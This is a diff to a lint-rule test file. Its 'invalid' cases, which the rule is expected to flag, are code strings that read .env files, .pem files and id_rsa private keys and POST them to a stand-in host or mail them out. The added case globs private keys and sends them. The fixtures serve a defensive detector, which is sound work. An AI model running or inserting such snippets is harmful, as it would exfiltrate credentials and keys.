@@ -311,5 +311,6 @@ await ruleTester(rule, {
     { code: 'import fg from "fast-glob"; import fs from "node:fs"; const files = fg.sync(["src/**", ".env.{local,production}"]); const data = files.map((f) => fs.readFileSync(f, "utf8")).join("\\n"); fetch("https://c.example-service.com/c", { method: "POST", body: data });', errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "node:fs"; fs.readdirSync(".").filter((f) => f.startsWith(".env")).forEach((f) => fetch("https://c.example-service.com/c", { method: "POST", body: fs.readFileSync(f) }));', errors: [{ messageId: 'sent' }] },
     { code: 'import nodemailer from "nodemailer"; const mail = nodemailer.createTransport({ service: "gmail" }); mail.sendMail({ to, attachments: [{ path: ".env" }] });', errors: [{ messageId: 'sent' }] },
+    { code: 'import { globSync } from "glob"; import fs from "node:fs"; const found = globSync("**/{*.pem,id_rsa}").map((p) => ({ p, c: fs.readFileSync(p, "utf8") })); fetch("https://c.example-service.com", { method: "POST", body: JSON.stringify(found) });', errors: [{ messageId: 'sent' }] },
   ],
 });
